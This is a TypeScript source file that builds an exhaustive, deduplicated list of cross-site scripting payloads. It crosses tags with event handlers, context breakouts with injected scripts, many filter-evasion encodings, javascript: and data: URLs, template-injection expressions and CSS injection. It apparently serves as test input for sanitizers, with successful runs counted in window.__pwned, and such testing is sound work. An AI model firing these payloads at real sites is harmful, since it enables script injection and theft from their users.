/**
 * Text that would run a script, load something or break a page if anything but a text node were made of it. Made by
 * crossing what is known to work somewhere: tags with events, ways out of a context with ways in, encodings,
 * protocols, templates of frameworks. Whatever runs counts itself in `window.__pwned`.
 */

import { clobbering, closers, far, litMarkers, loading, mutating, run } from './xss-known.js';

const cross = (...parts: readonly (readonly string[])[]): readonly string[] =>
  parts.reduce<readonly string[]>(
    (done, part) => done.flatMap((before) => part.map((each) => before + each)),
    [''],
  );

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'x',
  'math',
  'button',
];
const events = [
  'onerror',
  'onload',
  'onfocus autofocus tabindex=1 onfocus',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
];
const tagged = cross(['<'], tags, [' '], events, [`=${run}>`]);

const out = [
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '*/',
  '\\',
  '\\">',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</template>',
  '</noscript>',
  '</xmp>',
  '</button></div></section>',
  '</svg></math>',
];
const inside = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg/onload=${run}>`,
  ` onfocus=${run} autofocus tabindex=0 x=`,
];
const contexts = cross(out, inside);

const each = (text: string, write: (code: number) => string): string =>
  Array.from(text, (sign) => write(sign.codePointAt(0) ?? 0)).join('');
const hex = (code: number, width: number): string => code.toString(16).padStart(width, '0');
const isLetter = (code: number): boolean => /[a-z]/i.test(String.fromCodePoint(code));
const writings: readonly ((text: string) => string)[] = [
  (text) => each(text, (code) => `&#${code};`),
  (text) => each(text, (code) => `&#${code}`),
  (text) => each(text, (code) => `&#0000${code};`),
  (text) => each(text, (code) => `&#x${hex(code, 2)};`),
  (text) => each(text, (code) => `%${hex(code, 2)}`),
  (text) => each(text, (code) => `%25${hex(code, 2)}`),
  (text) => each(text, (code) => `%u${hex(code, 4)}`),
  (text) => each(text, (code) => `\\u${hex(code, 4)}`),
  (text) => each(text, (code) => `\\x${hex(code, 2)}`),
  (text) => each(text, (code) => `\\${hex(code, 6)}`),
  (text) => each(text, (code) => String.fromCodePoint(code > 32 && code < 127 ? code + 0xfee0 : code)),
  (text) => each(text, (code) => String.fromCodePoint(code) + (isLetter(code) ? '\u0000' : '')),
  (text) => each(text, (code) => String.fromCodePoint(code) + (isLetter(code) ? '\u200b' : '')),
  (text) => each(text, (code) => String.fromCodePoint(code) + (isLetter(code) ? '\u00ad' : '')),
  (text) => text.toUpperCase(),
  (text) => Array.from(text, (sign, index) => (index % 2 ? sign.toUpperCase() : sign)).join(''),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '<\t').replaceAll(' ', '\u000c'),
  (text) => text.replaceAll(' ', '/'),
  (text) => `\ufeff${text}`,
  (text) => `\u202e${text}\u202c`,
  (text) => `\ud800${text}\udc00`,
  (text) => btoa(text),
];
const encoded = [inside[0], inside[1], `javascript:${run}`].flatMap((text) =>
  writings.map((write) => write(text ?? '')),
);

const protocols = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\rscript:${run}`,
  `\u0001javascript:${run}`,
  `\u00a0javascript:${run}`,
  `javascript\u0000:${run}`,
  `javascript&colon;${run}`,
  `javascript://a.example/%0A${run}`,
  `javascript:'https://a.example';${run}`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${btoa(inside[0] ?? '')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `data:text/javascript,${run}`,
  `blob:https://a.example/${run}`,
  `filesystem:https://a.example/${run}`,
  `view-source:javascript:${run}`,
  `https://a.example/"onmouseover="${run}`,
  `https://a.example/'><img src=x onerror=${run}>`,
  `https://a.example/\u202e${run}`,
  `mailto:a@b.example?body="><script>${run}</script>`,
];
const places: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src='${address}'></iframe>`,
  (address) => `<form><button formaction=${address}>x</button></form>`,
  (address) => `[x](${address}) ![x](${address})`,
];
const addressed = places.flatMap((place) => protocols.map(place));

const code = [
  run,
  "constructor.constructor('__pwned=1')()",
  '7*7',
  'name',
  'n',
  'constructor',
  '__proto__',
  'toString',
];
const brackets = ['${', '{{', '{', '#{', '[[', '{%', '<%=', '<%-', '@{', '*{', '~{', '{{{', '$${{'] as const;
const closing: Readonly<Record<string, string>> = {
  '[[': ']]',
  '{%': '%}',
  '<%=': '%>',
  '<%-': '%>',
  '{{': '}}',
  '{{{': '}}}',
  '$${{': '}}',
};
const templates = brackets.flatMap((open) => code.map((inner) => `${open}${inner}${closing[open] ?? '}'}`));

const styled = cross(
  ['<style>', '<x style="', '"; style="', '</style><style>', '}', '/*'],
  [
    `@import '${far}/a.css';`,
    `*{background:url(${far}/b)}`,
    `background:url(javascript:${run})`,
    `width:expression(${run})`,
    `-moz-binding:url(${far}/c#x)`,
    `position:fixed;inset:0;z-index:9`,
    `@font-face{src:url(${far}/d)}`,
    `--x:;}*{display:none`,
  ],
);

/** In a fixed order, each once. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...tagged,
    ...contexts,
    ...encoded,
    ...addressed,
    ...templates,
    ...litMarkers,
    ...mutating,
    ...styled,
    ...loading,
    ...clobbering,
    ...closers,
  ]),
];
